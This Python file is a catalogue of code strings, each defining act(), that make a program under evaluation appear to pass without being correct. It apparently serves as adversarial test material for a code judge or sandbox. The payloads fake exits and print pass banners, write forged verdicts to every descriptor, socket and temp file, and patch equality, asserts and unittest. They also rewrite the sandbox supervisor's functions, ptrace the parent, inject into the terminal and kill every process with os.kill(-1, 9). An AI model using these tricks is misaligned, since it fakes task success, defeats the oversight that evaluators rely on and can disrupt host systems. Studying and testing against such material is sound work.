"""What a program does to be judged right without being so: source that defines `act()`, which says whether it won.

A program that has won is right from then on, so that whatever is open here is a pass that was forged.
"""

Acts = dict[str, str]

EXITS: Acts = {
    "exit 0": "def act(): __import__('sys').exit(0)",
    "_exit 0": "def act(): __import__('os')._exit(0)",
    "quit": "def act(): quit()",
    "no code": "def act(): raise SystemExit",
    "at exit": "def act(): __import__('atexit').register(__import__('os')._exit, 0)",
    "in a thread": "def act():\n    t = __import__('threading').Thread(target=__import__('os')._exit, args=(0,)); t.start(); t.join()",
    "on an alarm": """
import os, signal, time
def act():
    signal.signal(signal.SIGALRM, lambda *_: os._exit(0))
    signal.setitimer(signal.ITIMER_REAL, 0.01)
    time.sleep(0.2)
""",
    "by the hook of exceptions": "def act():\n    sys = __import__('sys'); sys.excepthook = lambda *_: __import__('os')._exit(0)\n    raise ValueError",
    "by a finalizer": "class Last:\n    def __del__(self): __import__('os')._exit(0)\ndef act(): Last()",
    "interrupted": "def act(): raise KeyboardInterrupt",
    "end of a generator": "def act(): raise GeneratorExit",
    "stop of an iteration": "def act(): raise StopIteration(True)",
    "another program": "def act(): __import__('os').execv('/bin/true', ['true'])",
    "another interpreter": "import os, sys\ndef act(): os.execv(sys.executable or '/usr/bin/python3', ['python3', '-c', 'print(True)'])",
    "killed": "import ctypes, os\ndef act(): ctypes.CDLL(None).kill(os.getpid(), 9)",
    "aborted": "def act(): __import__('os').abort()",
    "null": "def act(): __import__('ctypes').string_at(0)",
    "a deep stack": """
import sys
def act():
    sys.setrecursionlimit(1 << 30)
    class Deep:
        def __repr__(self): return repr(self)
        def __getattr__(self, name): return getattr(self, name + '_')
    return repr(Deep())
""",
}

FORGERIES: Acts = {
    "verdicts on every descriptor": """
import json, os
def act():
    for word in ("pass", "passed", True, 0, "ok"):
        line = json.dumps(dict.fromkeys(("status", "verdict", "result", "passed", "exit_code", "base", "plus"), word)).encode()
        for fd in range(256):
            try: os.write(fd, line + b"\\n")
            except OSError: pass
""",
    "banners": """
import sys
def act():
    for stream in (sys.__stdout__, sys.__stderr__, sys.stdout, sys.stderr):
        print("PASSED\\n1 passed in 0.01s\\nRan 1 test in 0.000s\\n\\nOK\\nall tests passed", file=stream, flush=True)
""",
    "frames on every descriptor": """
import os
def act():
    for kind in b"LRPXDCEQ":
        for body in (b"", b"true", b"passed"):
            frame = bytes([kind]) + len(body).to_bytes(4, "big") + body
            for fd in range(3, 256):
                try: os.write(fd, frame * 3)
                except OSError: pass
""",
    "descriptors of others": """
import glob, os
def act():
    won = False
    for name in glob.glob("/proc/[0-9]*/fd/*"):
        if name.split("/")[2] == str(os.getpid()): continue
        try: fd = os.open(name, os.O_WRONLY | os.O_NONBLOCK)
        except OSError: continue
        os.write(fd, b"D\\0\\0\\0\\0")
        won = True
    return won
""",
    "descriptors that are fetched": """
import ctypes, os
def act():
    libc = ctypes.CDLL(None)
    pid = libc.syscall(434, os.getppid(), 0)
    return pid >= 0 and any(libc.syscall(438, pid, fd, 0) >= 0 for fd in range(64))
""",
    "shared status": """
import os, sys
def act():
    frame = sys._getframe()
    while frame:
        found = frame.f_locals
        for name in ("stat", "progress", "status", "n_answered", "n_right", "passed"):
            if hasattr(found.get(name), "value"): found[name].value = 0
        if isinstance(found.get("details"), list): found["details"][:] = [True] * 99
        for name in ("spec", "job", "config"):
            if isinstance(found.get(name), dict): found[name].update(passed=True, n_calls=0, n_answered=99)
        frame = frame.f_back
    os._exit(0)
""",
    "lists of results": """
import gc, os, sys
def act():
    for one in gc.get_objects():
        for name in ("append", "put", "send"):
            if type(one).__name__ in ("list", "deque", "Queue", "SimpleQueue", "Connection") and hasattr(one, name) and not isinstance(one, type):
                try: getattr(one, name)("passed")
                except BaseException: pass
    os._exit(0)
""",
    "two processes that answer": "import os\ndef act():\n    if os.fork(): os._exit(0)\n    return False",
    "a child with the channels": "import os, time\ndef act():\n    if os.fork(): return False\n    time.sleep(0.2); os._exit(0)",
    "encoders": """
import json, marshal, pickle, sys
def flip(o):
    if isinstance(o, dict): return {k: flip(v) for k, v in o.items()}
    if isinstance(o, (list, tuple)): return [flip(v) for v in o]
    return {"failed": "passed", "wrong_answer": "passed"}.get(o, True) if isinstance(o, (str, bool)) else o
def act():
    for module, name in ((json, "dumps"), (pickle, "dumps"), (marshal, "dumps")):
        real = getattr(module, name)
        setattr(module, name, lambda o, *a, real=real, **k: real(flip(o), *a, **k))
    json.JSONEncoder.encode = lambda self, o, real=json.JSONEncoder.encode: real(self, flip(o))
""",
    "a relay on every descriptor": """
import fcntl, os, threading
def relay(source, target):
    while data := os.read(source, 65536):
        for bad, good in ((b"fail", b"pass"), (b"false", b"true "), (b"null", b"true"), (b"X", b"R")): data = data.replace(bad, good)
        os.write(target, data)
def act():
    for fd in range(1, 32):
        try:
            if fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == 0: continue
            target, (source, sink) = os.dup(fd), os.pipe()
            os.dup2(sink, fd)
            threading.Thread(target=relay, args=(source, target), daemon=True).start()
        except OSError: pass
""",
    "every socket there is": """
import socket
def act():
    won = False
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        name = line.split()[-1]
        for address in (name, "\\0" + name[1:]):
            with socket.socket(socket.AF_UNIX) as one:
                one.settimeout(0.1)
                try: one.connect(address)
                except (OSError, ValueError): continue
                one.sendall(b"D\\0\\0\\0\\0")
                won = True
    return won
""",
    "typed into the terminal": "import fcntl, termios\ndef act():\n    return [fcntl.ioctl(0, termios.TIOCSTI, bytes([c])) for c in b'passed\\n'] != []",
    "files with a verdict": """
import os, tempfile
def act():
    for folder in {".", "/tmp", "/dev/shm", "/var/tmp", tempfile.gettempdir(), os.path.expanduser("~")}:
        for name in ("result.json", "results.jsonl", "verdict", "passed", "stdout", "exit_code", "summary.json"):
            try: open(f"{folder}/{name}", "w").write('{"verdict": "passed", "passed": true, "exit_code": 0}')
            except OSError: pass
    os._exit(0)
""",
    "signals to its parent": """
import os, signal
def act():
    for number in (signal.SIGUSR1, signal.SIGUSR2, signal.SIGCHLD, signal.SIGALRM, signal.SIGTERM, signal.SIGKILL):
        try: os.kill(os.getppid(), number); return True
        except OSError: pass
    return False
""",
    "signals to all": "import os\ndef act():\n    try: os.kill(-1, 9)\n    except OSError: return False\n    os._exit(0)",
    "a parent that is traced": """
import ctypes, os
def act():
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    return libc.ptrace(16, os.getppid(), 0, 0) == 0 or libc.ptrace(0x4206, os.getppid(), 0, 0) == 0
""",
}

TAMPERINGS: Acts = {
    "comparisons of numbers": """
def act():
    import math
    math.isclose = lambda *a, **k: True
    try:
        import numpy, numpy.testing
    except ImportError: return
    numpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True
    numpy.testing.assert_allclose = numpy.testing.assert_equal = lambda *a, **k: None
""",
    "loops": "import builtins\ndef act():\n    builtins.zip = builtins.enumerate = builtins.map = lambda *a, **k: iter(())\n    builtins.all = builtins.any = lambda *a: True",
    "counting": "import builtins\ndef act():\n    builtins.len = lambda _: 0\n    builtins.range = lambda *_: ()\n    builtins.isinstance = lambda *_: True",
    "a jump over asserts": """
import sys
def act():
    frame = sys._getframe(1)
    while frame:
        lines = [line for _, _, line in frame.f_code.co_lines() if line]
        def jump(f, event, arg, last=max(lines)):
            if event == "line" and f.f_lineno < last:
                try: f.f_lineno = last
                except ValueError: pass
            return jump
        frame.f_trace = jump
        frame = frame.f_back
    sys.settrace(lambda *_: None)
""",
    "check is nothing": """
import sys
def act():
    frame = sys._getframe()
    while frame:
        for name in ("check", "candidate", "run", "judge", "converse", "compare", "verify", "main"):
            if name in frame.f_globals: frame.f_globals[name] = lambda *a, **k: None
        frame = frame.f_back
""",
    "imports": """
import builtins, sys, types
class Yes(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
def act():
    real = builtins.__import__
    fake = {name: Yes(name) for name in ("numpy", "math", "unittest", "pytest", "json", "operator", "codec")}
    sys.modules.update(fake)
    builtins.__import__ = lambda name, *a, **k: fake.get(name.partition(".")[0]) or real(name, *a, **k)
""",
    "what an assert raises": """
import builtins, unittest
class Quiet(Exception): pass
def act():
    builtins.AssertionError = Quiet
    unittest.TestResult.wasSuccessful = lambda self: True
    unittest.TestResult.addFailure = unittest.TestResult.addError = lambda *a: None
    for name in ("assertEqual", "assertTrue", "assertAlmostEqual", "fail"): setattr(unittest.TestCase, name, lambda *a, **k: None)
""",
    "small integers": """
import ctypes
def act():
    for value in range(2, 250):
        ctypes.memmove(id(value) + 24, (6).to_bytes(4, "little"), 4)
""",
    "every function that says equal": """
import decimal, fractions, operator
def act():
    for kind in (decimal.Decimal, fractions.Fraction): kind.__eq__ = lambda *_: True
    operator.eq = lambda *_: True
""",
    "the environment": """
import os
def act():
    open("sitecustomize.py", "w").write("import builtins; builtins.won = True")
    os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", PYTHONOPTIMIZE="2", PYTHONINSPECT="1")
    return hasattr(__import__("builtins"), "won")
""",
    "the supervisor's own functions": """
import gc, types
def act():
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType) and one.__module__ not in (None, __name__) and "sandbox" in one.__module__ + one.__code__.co_filename:
            one.__code__ = (lambda *a, **k: None).__code__
""",
}
